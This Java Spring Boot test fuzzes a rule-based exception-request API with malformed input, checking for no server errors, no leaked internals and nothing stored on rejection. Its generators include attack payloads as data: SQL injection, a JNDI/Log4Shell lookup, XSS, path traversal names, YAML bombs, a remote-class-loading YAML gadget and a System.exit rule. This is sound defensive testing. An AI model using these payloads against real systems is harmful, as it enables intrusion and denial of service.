package com.leeway.system;

import static com.leeway.system.Gen.frequencyOf;
import static com.leeway.system.Gen.of;
import static com.leeway.system.Gen.weight;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Function;
import java.util.function.Supplier;
import java.util.stream.Collectors;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

import com.leeway.LeewayApi;
import com.leeway.TestFolders;
import com.leeway.system.RawApi.Answer;

/**
 * Throws generated bad input at every POST of the JSON API over real HTTP: malformed, partial and oversized JSON,
 * wrong types, nulls, huge strings and numbers, control and other unusual characters, odd content types, deep
 * nesting, huge arrays, and for rule sets garbage file names, contents, base64 and YAML bombs; signed in as a
 * role that may call the endpoint (so validation is reached), as one that may not, and as nobody.
 * <p>
 * For every answer: never a 5xx; every 4xx is a problem ({@code application/problem+json}) with a plain detail;
 * and nothing is stored unless the answer is a 2xx. Inputs are a generated corpus drawn with a seed (see {@link Gen})
 * that is printed with any failure; run again with {@code -Dfuzz.seed=...} to repeat a run exactly.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
		properties = { "leeway.rules.watch-interval=1h", "leeway.rules.sync-interval=1h", "leeway.follow-up.interval=1h",
				"leeway.mail.interval=1h" })
@ActiveProfiles("test")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ApiFuzzIntegrationTests {

	static final String REQUESTS = "/api/v1/exception-requests";

	static final String RULESETS = "/api/v1/rulesets";

	/** Tables whose rows may only grow when the API answered 2xx. */
	static final List<String> TABLES = List.of("exception_request", "request_event", "notice", "satisfaction",
			"feedback", "ruleset_version", "ruleset_file");

	static final String LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";

	static final String DIGITS = "0123456789";

	static final String SEED = System.getProperty("fuzz.seed", String.valueOf(System.nanoTime()));

	/** Garbage decision tables are part of the fuzz; {@code -Dfuzz.decisionTables=false} leaves them out. */
	static final boolean DECISION_TABLES = !"false".equals(System.getProperty("fuzz.decisionTables"));

	/** A copy of the shipped rules; created before the application starts (the test instance comes first here). */
	static final Path rules = shippedRulesCopy();

	@LocalServerPort
	int port;

	@Autowired
	JdbcTemplate jdbc;

	RawApi raw;

	final List<String> failures = new ArrayList<>();

	/** Answers per endpoint and status, printed after each test to show how deep the inputs got. */
	final Map<String, Map<Object, Integer>> statuses = new LinkedHashMap<>();

	int tried;

	LeewayApi api;

	/** The request each stateful endpoint works on now; replaced by a fresh one once a call succeeded. */
	final Map<String, Long> current = new java.util.HashMap<>();

	static Path shippedRulesCopy() {
		try {
			return TestFolders.withShippedRules("fuzz-").resolve("rules");
		}
		catch (IOException ex) {
			throw new java.io.UncheckedIOException(ex);
		}
	}

	@AfterAll
	static void removeRules() throws IOException {
		TestFolders.delete(rules.getParent());
	}

	@DynamicPropertySource
	static void rulesFolder(DynamicPropertyRegistry registry) {
		registry.add("leeway.rules.dir", () -> rules.toString());
	}

	@BeforeAll
	void connect() {
		raw = new RawApi(port);
		api = new LeewayApi(port);
	}

	/** A new request of Alice's in the given state, for an endpoint that changes what it works on. */
	Supplier<Long> fresh(String status) {
		Map<String, Object> body = switch (status) {
			case "APPROVED" -> LeewayApi.requestBody("WORD_PROCESSING", "WordPerfect", 60, 3, "INTERNAL");
			case "ESCALATED" -> LeewayApi.requestBody("COLLABORATION_SAAS", "Notion", 120, 8, "CONFIDENTIAL");
			default -> LeewayApi.requestBody("COLLABORATION_SAAS", "Figma", 150, 12, "INTERNAL");
		};
		return () -> {
			LeewayApi.Response submitted = api.post("alice", REQUESTS, body);
			assertThat(submitted.text("status")).as("a fresh request to work on").isEqualTo(status);
			return submitted.id();
		};
	}

	// ---------------------------------------------------------------- the endpoints

	@Test
	void submittingAndDryRunsNeverFailOnTheServerAndStoreNothingWhenRejected() {
		Map<String, Gen<String>> fields = submitFields();
		fuzz(REQUESTS, just(REQUESTS), null, List.of("alice", "ian", "admin"), List.of(), body(fields), 500);
		fuzz("/api/v1/evaluations", just("/api/v1/evaluations"), null, List.of("bob", "maria"), List.of(), body(fields), 300);
	}

	@Test
	void decisionsNeverFailOnTheServer() {
		Map<String, Gen<String>> fields = new LinkedHashMap<>();
		fields.put("decision", of("\"APPROVE\"", "\"DENY\"", "\"ESCALATE\"", "\"approve\"", "\"MAYBE\"", "0")
			.orNull(0.05));
		fields.put("justification", quoted(texts()));
		fuzz("decision by a manager", ids("/decision"), fresh("ESCALATED"), List.of("maria"),
				List.of("alice", "frank", "bob"), body(fields), 200);
		fuzz("decision by IT staff", ids("/decision"), fresh("IN_REVIEW"), List.of("ian"), List.of("alice", "maria"),
				body(fields), 150);
	}

	@Test
	void followThroughNeverFailsOnTheServer() {
		Map<String, Gen<String>> renewal = new LinkedHashMap<>();
		renewal.put("whatChanged", quoted(texts()));
		renewal.put("durationDays", numbers());
		fuzz("renewal", ids("/renewal"), fresh("APPROVED"), List.of("alice"), List.of("bob", "maria"), body(renewal),
				150);

		Map<String, Gen<String>> revocation = Map.of("reason", quoted(texts()));
		fuzz("revocation", ids("/revocation"), fresh("APPROVED"), List.of("ian", "maria"), List.of("alice", "frank"),
				body(revocation), 150);

		Map<String, Gen<String>> answer = new LinkedHashMap<>();
		answer.put("rating", frequencyOf(weight(3, Gen.integers(1, 5).map(String::valueOf)),
				weight(2, numbers())));
		answer.put("comment", quoted(texts()));
		fuzz("satisfaction", ids("/satisfaction"), fresh("APPROVED"), List.of("alice"), List.of("bob", "ian"),
				body(answer), 250);

		fuzz("feedback", just("/api/v1/feedback"), null, List.of("alice", "ian", "admin"), List.of(),
				body(Map.of("text", quoted(texts()))), 200);

		fuzz("withdrawal", ids("/withdrawal"), fresh("IN_REVIEW"), List.of("alice"), List.of("bob", "maria"), anyJson(),
				80);
		fuzz("notice read", of("1", "2", "0", "-1", "x", "99999999999999999999")
			.map(id -> "/api/v1/notifications/" + id + "/read"), null, List.of("alice"), List.of("bob"), anyJson(), 80);
	}

	@Test
	void listingWithAnyPagingNeverFailsOnTheServer() {
		Gen<String> value = Gen.oneOf(Gen.integers().map(String::valueOf),
				Gen.longs().map(String::valueOf), of("", "-0", "1e3", "x", "2147483648", "%00",
						"99999999999999999999", "ESCALATED", "escalated", "NONSENSE", "%F0%9F%92%A5"));
		Gen<String> query = Gen
			.combine(of("page", "size", "status", "standardKey", "department", "unknown"), value,
					(name, text) -> name + "=" + text)
			.list(4)
			.map(parts -> REQUESTS + "?" + String.join("&", parts));
		List<String> users = List.of("alice", "ian", "maria");
		List<Try> tries = sample(Gen.combine(query, of(users), (path, user) ->
				new Try("list", user, "GET", path, null, null)), 300, "list");
		check(tries);
	}

	@Test
	void ruleSetsNeverFailOnTheServerAndArePublishedOnlyOnSuccess() {
		Gen<String> candidate = candidates();
		for (String path : List.of(RULESETS + "/validate", RULESETS + "/tests", RULESETS + "/preview", RULESETS)) {
			fuzz(path, just(path), null, List.of("ian", "admin"), List.of("alice", "maria"), candidate, 50);
		}
		Map<String, Gen<String>> note = Map.of("note", quoted(texts()));
		fuzz("rollback", of("abc", "0".repeat(64), "..", "%2e%2e", "x".repeat(300), activeVersion())
			.map(version -> RULESETS + "/" + version + "/rollback"), null, List.of("ian"), List.of("bob"), body(note), 60);
	}

	@Test
	void unknownAddressesAndMethodsAreProblemsToo() {
		Gen<String> path = of("/api/v1/nothing", "/api/v2/exception-requests", "/api/test/clock",
				"/api/test/jobs", "/api/v1/exception-requests/1/unknown", "/api/v1/rulesets/active", "/api/v1/standards",
				REQUESTS, REQUESTS + "/1");
		Gen<String> method = of("POST", "PUT", "DELETE", "PATCH", "GET");
		List<Try> tries = sample(Gen.combine(path, method, contentTypes(), anyJson(), users(List.of("alice",
				"admin"), List.of()),
				(where, how, type, body, user) -> new Try("address", user, how, where, type, body)), 150, "address");
		check(tries);
	}

	// ---------------------------------------------------------------- running and checking tries

	record Try(String endpoint, String user, String method, String path, String contentType, String body) {

		@Override
		public String toString() {
			String shown = body == null ? "(no body)" : body.length() > 300 ? body.substring(0, 300) + "…(" + body.length() + " chars)" : body;
			return method + " " + path + " as " + user + " [" + contentType + "] " + shown;
		}

	}

	/**
	 * {@code paths} may hold {@code {id}}: the request the endpoint works on, made by {@code fixtures} and made
	 * again after every call that succeeded (a decided or revoked request would only answer 409 from then on).
	 */
	void fuzz(String endpoint, Gen<String> paths, Supplier<Long> fixtures, List<String> allowed,
			List<String> forbidden, Gen<String> bodies, int count) {
		Gen<Try> tries = Gen.combine(paths, users(allowed, forbidden), contentTypes(), bodies,
				(path, user, type, body) -> new Try(endpoint, user, "POST", path, type, body));
		List<Try> drawn = sample(tries, count, endpoint);
		check(drawn, fixtures);
	}

	void check(List<Try> tries) {
		check(tries, null);
	}

	/**
	 * Draws tries from a generator, reproducibly for the run's seed: each endpoint draws from its own
	 * {@link Random} derived from the seed, so its tries are the same whichever tests run and in what order.
	 */
	<T> List<T> sample(Gen<T> gen, int count, String endpoint) {
		return gen.sample(new Random(Long.parseLong(SEED) + endpoint.hashCode()), count);
	}

	void check(List<Try> tries, Supplier<Long> fixtures) {
		tried += tries.size();
		if (fixtures != null) {
			current.put(tries.get(0).endpoint(), fixtures.get());
		}
		Map<String, Long> before = counts();
		for (Try attempt : tries) {
			String path = attempt.path().replace("{id}", String.valueOf(current.get(attempt.endpoint())));
			Answer answer = raw.send(attempt.user(), attempt.method(), path, attempt.contentType(),
					attempt.body() == null ? null : attempt.body().getBytes(StandardCharsets.UTF_8));
			statuses.computeIfAbsent(attempt.endpoint(), name -> new java.util.TreeMap<>()).merge(answer.status(), 1, Integer::sum);
			if (answer.status() == 400 && answer.isProblem()) {
				String field = answer.fields().isEmpty() ? "(body)" : answer.fields().get(0).replaceAll("\\..*", ".*");
				statuses.computeIfAbsent(attempt.endpoint() + " 400s by field", name -> new java.util.TreeMap<>())
					.merge(field, 1, Integer::sum);
			}
			String problem = problemWith(answer);
			Map<String, Long> after = counts();
			if (answer.status() / 100 != 2 && !after.equals(before)) {
				problem = (problem == null ? "" : problem + "; ") + "stored something although rejected: " + before
						+ " -> " + after;
			}
			if (problem != null) {
				failures.add(problem + "\n    for " + attempt + "\n    answer " + answer);
			}
			if (fixtures != null && answer.status() / 100 == 2) {
				current.put(attempt.endpoint(), fixtures.get());
				after = counts();
			}
			before = after;
		}
	}

	@BeforeEach
	void nothingTriedYet() {
		failures.clear();
		tried = 0;
	}

	@AfterEach
	void nothingFailed() {
		statuses.forEach((endpoint, counts) -> System.out.println("fuzz " + endpoint + ": " + counts));
		statuses.clear();
		assertThat(failures).as("seed %s (run again with -Dfuzz.seed=%s): %d of %d tries failed", SEED, SEED,
				failures.size(), tried).isEmpty();
	}

	static String problemWith(Answer answer) {
		if (answer.status() >= 500) {
			return "server error " + answer.status();
		}
		if (answer.status() < 400) {
			return null;
		}
		if (!answer.isProblem()) {
			return answer.status() + " is not a problem+json";
		}
		String detail = answer.json().path("detail").asString("");
		if (detail.isBlank() || answer.json().path("title").asString("").isBlank()
				|| answer.json().path("status").asInt() != answer.status()) {
			return "problem without status, title or detail";
		}
		if (detail.matches("(?s).*(Exception|java\\.|org\\.|springframework|SQL|\\bat com\\.).*")) {
			return "detail leaks internals";
		}
		for (var error : answer.json().path("errors")) {
			// invalid input names a field; a rule set that is not accepted lists rule problems (file, line, message)
			boolean ruleProblem = error.has("severity");
			if (!ruleProblem && error.path("field").asString("").isBlank() || error.path("message").asString("").isBlank()) {
				return "an error without field or message";
			}
		}
		return null;
	}

	/**
	 * The rows of every table, once the notices of earlier accepted calls are written (they follow the commit,
	 * asynchronously): otherwise a notice landing during a refused call would look like something it stored.
	 */
	Map<String, Long> counts() {
		org.awaitility.Awaitility.await()
			.pollDelay(java.time.Duration.ZERO)
			.pollInterval(java.time.Duration.ofMillis(10))
			.atMost(java.time.Duration.ofSeconds(30))
			.until(() -> jdbc.queryForObject("select count(*) from event_publication", Long.class) == 0);
		return TABLES.stream()
			.collect(Collectors.toMap(Function.identity(),
					table -> jdbc.queryForObject("select count(*) from " + table, Long.class), (a, b) -> a,
					LinkedHashMap::new));
	}

	String activeVersion() {
		return new LeewayApi(port).get("ian", RULESETS + "/active").text("version");
	}

	// ---------------------------------------------------------------- generators

	static Gen<String> just(String value) {
		return Gen.just(value);
	}

	/** The request's own id most of the time; otherwise ids that do not exist or are not numbers at all. */
	static Gen<String> ids(String suffix) {
		return frequencyOf(weight(9, Gen.just("{id}")),
				weight(1, of("0", "-1", "abc", "999999999", "9223372036854775808", "1.5", "%20", "1e3")))
			.map(id2 -> REQUESTS + "/" + id2 + suffix);
	}

	static Gen<String> users(List<String> allowed, List<String> forbidden) {
		List<Gen.Weighted<String>> choices = new ArrayList<>();
		choices.add(weight(12, of(allowed)));
		if (!forbidden.isEmpty()) {
			choices.add(weight(2, of(forbidden)));
		}
		choices.add(weight(1, Gen.just((String) null)));
		return frequencyOf(choices);
	}

	static Gen<String> contentTypes() {
		return frequencyOf(weight(14, Gen.just("application/json")),
				weight(3, of("*/*", "text/plain", "application/xml", "application/*", "*/json", "nonsense",
						"application/json; charset=nonsense", "application/json; charset=ISO-8859-1",
						"application/x-www-form-urlencoded", "multipart/form-data", "multipart/form-data; boundary=x",
						"application/problem+json", "application/json;;", "", "text/html; charset=utf-8")),
				weight(1, Gen.just((String) null)));
	}

	/** Free text as people and attackers type it: empty, blank, at and past every limit, odd characters. */
	static Gen<String> texts() {
		return frequencyOf(
				weight(4, Gen.strings(LETTERS + DIGITS + " .,'-", 10, 80)),
				weight(2, Gen.strings(Character.MIN_VALUE, Character.MAX_VALUE, 0, 40)),
				weight(1, Gen.strings('\u0000', '\u001f', 0, 12)),
				weight(1, of("", " ", "\t\n", "null", "👩‍💻\u202Eevil\u200B", "\uD800", "\uFEFF",
						"<script>alert(1)</script>", "'; drop table exception_request; --", "${jndi:ldap://x/a}",
						"{0}{1}{99}", "%s%n")),
				weight(2, of(63, 64, 65, 99, 100, 101, 199, 200, 201, 1999, 2000, 2001, 3999, 4000, 4001,
						7950, 8001, 20_000, 300_000).map(length -> "x".repeat(length))));
	}

	/** A valid value most of the time, so that the other fields' checks are reached too. */
	static Gen<String> mostly(String valid, Gen<String> others) {
		return frequencyOf(weight(5, Gen.just(valid)), weight(1, others));
	}

	static Gen<String> quoted(Gen<String> texts) {
		return texts.map(RawApi::json);
	}

	/** Numbers as JSON text: ordinary, at the edges, beyond int and long, huge exponents, not numbers at all. */
	static Gen<String> numbers() {
		return frequencyOf(weight(4, Gen.integers(-5, 1200).map(String::valueOf)),
				weight(1, Gen.integers().map(String::valueOf)),
				weight(1, of("2147483648", "-2147483649", "9223372036854775808", "1e400", "-1e400",
						"1e-400", "1" + "0".repeat(999), "1" + "0".repeat(5000), "0.5", "1.0", "-0", "NaN", "Infinity",
						"0x10", "01", "\"90\"", "\"ninety\"", "true", "[]", "{}")));
	}

	/** Any JSON value, nested a little: a scalar wrapped in zero to three levels of arrays and objects. */
	static Gen<String> anyJson() {
		Gen<String> scalar = Gen.oneOf(numbers(), quoted(texts()), of("null", "true", "false"));
		List<Gen<String>> byDepth = new ArrayList<>(List.of(scalar));
		for (int depth = 1; depth <= 3; depth++) {
			Gen<String> inner = byDepth.get(depth - 1);
			byDepth.add(Gen.oneOf(inner.list(4).map(items -> "[" + String.join(",", items) + "]"),
					Gen.combine(Gen.strings(LETTERS, 0, 8), inner, (key, value) -> RawApi.json(key) + ":" + value)
						.list(4)
						.map(pairs -> "{" + String.join(",", pairs) + "}")));
		}
		return random -> byDepth.get(random.nextInt(byDepth.size())).next(random);
	}

	/**
	 * A body for an endpoint with these fields: mostly an object whose fields are each valid, replaced by any JSON
	 * value, or left out (plus sometimes an unknown field); sometimes no object at all, JSON cut short, nesting
	 * thousands deep, a huge array, or nothing.
	 */
	static Gen<String> body(Map<String, Gen<String>> fields) {
		List<Gen<String>> members = new ArrayList<>();
		fields.forEach((name, valid) -> members.add(frequencyOf(weight(16, valid),
				weight(2, anyJson()), weight(1, Gen.just((String) null)))
			.map(value -> value == null ? "" : RawApi.json(name) + ":" + value)));
		members.add(frequencyOf(weight(8, Gen.just("")),
				weight(1, anyJson().map(value -> "\"unknownField\":" + value))));
		Gen<String> object = Gen.combine(members)
			.map(parts -> "{" + parts.stream().filter(part -> !part.isEmpty()).collect(Collectors.joining(",")) + "}");
		return frequencyOf(weight(24, object), weight(2, anyJson()),
				weight(2, Gen.combine(object, Gen.integers(0, 100),
					(text, percent) -> text.substring(0, text.length() * percent / 100))),
				weight(1, of(1, 100, 600, 5_000, 50_000).map(depth -> "[".repeat(depth) + "]".repeat(depth))),
				weight(1, of(1_000, 200_000).map(depth -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth))),
				weight(1, of(10_000, 300_000).map(length -> "[" + "1,".repeat(length) + "1]")),
				weight(1, of("", " ", "\u0000", "{", "}", "{\"a\"}", "{'a':1}", "\uFEFF{}", "[", "nul",
						"\"just text\"", "{\"product\":\"\\ud800\"}", "{\"product\":\"\\u0000\"}",
						"{\"a\":1,\"a\":2}", "{\"durationDays\":1}{\"durationDays\":2}")));
	}

	static Map<String, Gen<String>> submitFields() {
		Map<String, Gen<String>> fields = new LinkedHashMap<>();
		fields.put("standardKey", frequencyOf(weight(6, of("\"WORD_PROCESSING\"",
				"\"COLLABORATION_SAAS\"", "\"OPERATING_SYSTEM\"")), weight(1, quoted(texts()))));
		fields.put("product", frequencyOf(weight(4, of("\"WordPerfect\"", "\"Notion\"")),
				weight(2, quoted(texts()))));
		fields.put("productVersion", mostly("\"2021\"", quoted(texts())));
		fields.put("justification", frequencyOf(weight(3, Gen.just(
				"\"Our legal partner sends files in this format that we must edit losslessly.\"")),
				weight(2, quoted(texts()))));
		fields.put("durationDays", mostly("90", numbers()));
		fields.put("usersAffected", mostly("3", numbers()));
		fields.put("dataClassification", frequencyOf(weight(4, of("\"PUBLIC\"", "\"INTERNAL\"",
				"\"CONFIDENTIAL\"", "\"REGULATED\"")), weight(1, of("\"internal\"", "\"SECRET\"", "\"\"", "0"))));
		fields.put("compensatingControls", mostly("\"Files are scanned on arrival.\"", quoted(texts())));
		fields.put("estimatedCost", frequencyOf(weight(6, of("250", "1200.50")), weight(3, numbers()),
				weight(1, of("12.345", "123456789012.99", "1234567890123", "1e12", "-0.01", "1E-20",
						"1e999999999", "\"250\""))));
		return fields;
	}

	// ---------------------------------------------------------------- rule-set candidates

	static final String GENEROUS_RULE = """
			package leeway.rules

			import com.leeway.ruling.facts.Request
			global com.leeway.ruling.facts.RulingSheet ruling

			rule "Approve one-person AI pilots on public data (fuzz)"
			when
			    Request( standard == "GENERATIVE_AI", usersAffected == 1, durationDays <= 30, dataClassification == "PUBLIC" )
			then
			    ruling.approve("One person may try {product} on public data for up to a month.");
			end
			""";

	static final String DEEP_YAML = "tests:\n  - " + "[".repeat(5_000) + "]".repeat(5_000) + "\n";

	static Gen<String> yamlBombs() {
		StringBuilder laughs = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
		for (char name = 'b'; name <= 'j'; name++) {
			laughs.append(name).append(": &").append(name).append(" [");
			for (int i = 0; i < 9; i++) {
				laughs.append(i == 0 ? "" : ",").append('*').append((char) (name - 1));
			}
			laughs.append("]\n");
		}
		return of(DEEP_YAML, laughs.toString(), "tests: &a [*a]\n", "a: 1\na: 2\n",
				"standards:\n  - key: X\n    key: Y\n", "tests:\n  - !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n",
				"x: " + "y".repeat(1_100_000), "tests: [", "\t- bad indentation\n", "tests:\n  - name: ok\n");
	}

	static Gen<String> ruleTexts() {
		return frequencyOf(weight(2, yamlBombs()),
				weight(5, of(GENEROUS_RULE, "tests:\n  - name: Nothing to check\n    request: { standardKey: WORD_PROCESSING, product: WordPerfect }\n    expect: { outcome: APPROVE }\n")),
				weight(2, of("package leeway.rules\nrule \"Broken\" when then end\n",
						"package leeway.rules\n", "rule \"x\" when eval(true) then System.exit(0); end", "garbage ;;; {{{",
						"\u0000\u0001\u0002", "RuleSet,Broken\nRuleTable x\nCONDITION\n", ",,,,\n;;;\n\"", "")),
				weight(2, texts()), weight(1, Gen.just((String) null)));
	}

	static Gen<String> filePaths() {
		List<Gen.Weighted<String>> paths = new ArrayList<>();
		paths.add(weight(8, of("extra.drl", "tests/fuzz.yaml", "tests/fuzz.yml", "standards.yaml",
				"sub/extra.drl", "escalation.drl", "tests/escalation.yaml")));
		if (DECISION_TABLES) {
			paths.add(weight(1, of("fuzz.drl.csv", "fuzz.drl.xlsx")));
		}
		paths.add(weight(3, of("", " ", "../outside.drl", "/etc/passwd.drl", "C:\\x.drl", "a//b.drl", "dir/",
				"x.txt", ".hidden.drl", "tests/.x.yaml", "~backup.drl", "x\u0000.drl", "\u00e9.drl",
				"a".repeat(300) + ".drl", "tests/../../x.yaml", "%2e%2e/x.drl", "x.drl ")));
		paths.add(weight(1, Gen.strings(Character.MIN_VALUE, Character.MAX_VALUE, 0, 30)));
		return frequencyOf(paths);
	}

	static Gen<String> base64s() {
		return frequencyOf(
				weight(2, of("not base64!", "====", "", "AAA", "A", "\u00e9\u00e9", "QUJD\nREVG")),
				weight(2, Gen.bytes(64)
					.map(bytes -> Base64.getEncoder().encodeToString(bytes))),
				weight(1, Gen.just((String) null)));
	}

	static Gen<String> candidates() {
		Gen<String> files = Gen.combine(filePaths(), ruleTexts(),
				(path, text) -> RawApi.json(path) + ":" + (text == null ? "null" : RawApi.json(text)))
			.list(2)
			.map(pairs -> "{" + String.join(",", pairs) + "}");
		Gen<String> binaryFiles = Gen.combine(filePaths(), base64s(),
				(path, text) -> RawApi.json(path) + ":" + (text == null ? "null" : RawApi.json(text)))
			.list(2)
			.map(pairs -> "{" + String.join(",", pairs) + "}");
		Gen<String> deleted = frequencyOf(weight(3, filePaths().map(RawApi::json)),
				weight(1, Gen.just("null")))
			.list(2)
			.map(items -> "[" + String.join(",", items) + "]");
		Map<String, Gen<String>> fields = new LinkedHashMap<>();
		fields.put("files", frequencyOf(weight(4, files), weight(1, of("{\"tests/many.yaml\":"
				+ RawApi.json("tests:\n" + "  - name: x\n".repeat(20_000)) + "}", manyFiles()))));
		// mostly harmless around the files, so that many candidates get as far as compiling and testing
		fields.put("binaryFiles", mostly("{}", binaryFiles));
		fields.put("deleted", mostly("[]", deleted));
		fields.put("replaceAll", mostly("false", of("true", "null", "\"yes\"", "1")));
		fields.put("note", mostly("\"A change made by the fuzz test.\"", quoted(texts())));
		fields.put("from", mostly("\"2026-01-01T00:00:00Z\"", of("\"garbage\"", "5", "\"+999999999-12-31T23:59:59Z\"")));
		fields.put("to", mostly("\"2027-01-01T00:00:00Z\"", of("\"1970-01-01T00:00:00Z\"", "[]")));
		return body(fields);
	}

	static String manyFiles() {
		StringBuilder many = new StringBuilder("{");
		for (int i = 0; i < 600; i++) {
			many.append(i == 0 ? "" : ",").append("\"f").append(i).append(".drl\":\"package leeway.rules\\n\"");
		}
		return many.append('}').toString();
	}

}
